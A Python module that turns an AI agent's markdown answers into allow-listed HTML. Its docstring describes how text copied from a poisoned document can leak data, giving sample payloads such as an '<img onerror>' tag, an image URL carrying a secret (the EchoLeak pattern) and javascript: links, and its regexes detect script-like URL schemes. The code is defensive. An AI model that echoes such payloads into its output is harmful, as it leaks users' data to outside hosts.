"""Make answer text safe to show (SECURITY.md row 11): markdown in, allow-listed HTML out.

An answer may carry text the model copied from a poisoned document: raw HTML (``<img onerror>``),
images whose URL leaks data on load (``![](https://x/?q=SECRET)``, the EchoLeak pattern), or
``javascript:`` links. Two libraries do the work, each on its own terms:

1. markdown-it-py parses the answer as CommonMark (tables, strikethrough) with raw HTML *off*, so a
   tag in the text is text. On its tokens every image is replaced by a note (images are never
   loaded: a load is an outbound request), every link whose URL is not on the allow-list keeps only
   its text, and a bare URL that is not allowed is taken out of the prose.
2. nh3 (Ammonia) cleans the rendered HTML against an allow-list of tags and attributes, with
   ``href`` checked against the same URL allow-list — the second wall if the first one had a gap.

The result is HTML for ``st.html`` (which runs DOMPurify on it once more in the browser).
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any
from urllib.parse import urlsplit

# Hosts an answer may link to (official filing sources). Images are never loaded from anywhere.
DEFAULT_LINK_HOSTS: tuple[str, ...] = ("www.sec.gov", "sec.gov", "efts.sec.gov")

# What CommonMark + tables + strikethrough renders to, minus images; nothing else survives nh3.
ALLOWED_TAGS = frozenset(
    {"p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
    | {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
)
ALLOWED_ATTRIBUTES: dict[str, set[str]] = {
    "a": {"href", "title"},
    "ol": {"start"},
    "th": {"style"},  # column alignment only (filtered to text-align below)
    "td": {"style"},
}
LINK_REL = "noopener noreferrer nofollow"

# Bare URLs (and script-like schemes) in prose: not links once rendered, but shown and copyable.
_BARE_URL = re.compile(
    r"(?i)\b(?:https?://|ftp://|www\.)[^\s<>()\[\]]+|\b(?:javascript|vbscript|data):[^\s<>]*"
)
# A link CommonMark refused to make (``[x](javascript:...)``) stays as literal text: keep the text.
_REFUSED_LINK = re.compile(
    r"(?i)\[(?P<text>[^\[\]]*)\]\(\s*<?\s*(?P<dest>(?:javascript|vbscript|data|file):"
    r"(?:[^()\s>]|\([^()]*\))*)>?[^)]*\)"
)
_EMAIL = re.compile(r"\b[\w.+-]+@[\w-]+\.[\w.-]+\b")
_CONTROL = re.compile(
    r"[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u200b-\u200f\u202a-\u202e"
    r"\u2060-\u2064\ufeff\U000e0000-\U000e007f]"
)


@dataclass(frozen=True)
class SafeMarkdown:
    """An answer as allow-listed HTML, and what was taken out of it (shown as a note)."""

    html: str
    removed: tuple[str, ...] = field(default_factory=tuple)


def link_allowed(url: str, hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> bool:
    """True for an ``https``/``http`` URL whose host is on the allow-list (entities decoded)."""
    url = _CONTROL.sub("", html.unescape(url).strip())
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    if parts.scheme.lower() not in ("http", "https"):
        return False
    host = (parts.hostname or "").lower()
    return host in {h.lower() for h in hosts} and "@" not in parts.netloc


@lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    # "html": False -> "<img onerror>" is a text token, escaped when rendered.
    return MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])


def sanitize_markdown(text: str, *, link_hosts: Iterable[str] = DEFAULT_LINK_HOSTS) -> SafeMarkdown:
    """Render ``text`` (markdown) to HTML with no raw HTML, no images and only allowed links.

    Args:
        text: markdown written by the agent (possibly echoing document text).
        link_hosts: hosts links may point to; every other link keeps only its text.

    Returns:
        The allow-listed HTML and a description of each item removed.
    """
    import nh3

    hosts = tuple(link_hosts)
    removed: list[str] = []
    text = unicodedata.normalize("NFC", _CONTROL.sub("", text or ""))
    parser = _parser()
    tokens = parser.parse(text)
    for token in tokens:
        if token.type == "inline" and token.children:
            token.children = _clean_inline(token.children, hosts, removed)
    rendered = parser.renderer.render(tokens, parser.options, {})

    def keep_attribute(tag: str, name: str, value: str) -> str | None:
        if name == "href" and not link_allowed(value, hosts):
            return None
        return value

    clean = nh3.clean(
        rendered,
        tags=set(ALLOWED_TAGS),
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=keep_attribute,
        filter_style_properties={"text-align"},
        url_schemes={"http", "https"},
        link_rel=LINK_REL,
        strip_comments=True,
    )
    return SafeMarkdown(clean, tuple(removed))


def _clean_inline(children: Sequence[Any], hosts: tuple[str, ...], removed: list[str]) -> list[Any]:
    """Inline tokens with images, disallowed links and disallowed bare URLs replaced by notes."""
    from markdown_it.token import Token

    out: list[Any] = []
    dropped_links = 0  # depth of disallowed links we are inside (their close tags are dropped)
    for child in children:
        if child.type == "image":
            src = str(child.attrGet("src") or "")
            removed.append(f"image {src}")
            alt = child.content.strip()
            out.append(_text(Token, f"[image removed{': ' + alt if alt else ''}]"))
        elif child.type == "link_open" and not link_allowed(
            str(child.attrGet("href") or ""), hosts
        ):
            removed.append(f"link {child.attrGet('href')}")
            dropped_links += 1
        elif child.type == "link_close" and dropped_links:
            dropped_links -= 1
            out.append(_text(Token, " (link removed)"))
        elif child.type == "text":
            child.content = _clean_prose(child.content, hosts, removed)
            out.append(child)
        else:
            out.append(child)
    return out


def _text(token_class: Any, content: str) -> Any:
    token = token_class("text", "", 0)
    token.content = content
    return token


def _clean_prose(text: str, hosts: tuple[str, ...], removed: list[str]) -> str:
    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        if link_allowed(url, hosts):
            return url
        removed.append(f"link {url}")
        return "(link removed)"

    def refused(match: re.Match[str]) -> str:
        removed.append(f"link {match.group('dest')}")
        return f"{match.group('text')} (link removed)"

    text = _BARE_URL.sub(bare, _REFUSED_LINK.sub(refused, text))
    return _EMAIL.sub(lambda m: m.group(0).replace("@", " at "), text)


# Characters that open a link, image, HTML, code, math or table in Streamlit's markdown, and ":"
# (no "https://" autolink); "_" is left alone: at worst it italicises, and names use it a lot.
_MD_SPECIAL = re.compile(r"([\\`\[\]()!<>$*~|:])")
_WWW = re.compile(r"(?i)\b(www)\.")


def escape_markdown(text: str) -> str:
    r"""``text`` as literal characters in any Streamlit markdown context (labels, alerts).

    For short untrusted strings such as document names or error messages: the characters that
    could open a link, image, tag, code span, math or table are backslash-escaped (so
    ``![](https://x)`` shows as typed and ``https\://`` is no longer a URL), ``www.`` cannot
    autolink, and line breaks become spaces.
    """
    text = _CONTROL.sub("", " ".join(str(text).splitlines()))
    return _WWW.sub(r"\1\\.", _MD_SPECIAL.sub(r"\\\1", text))
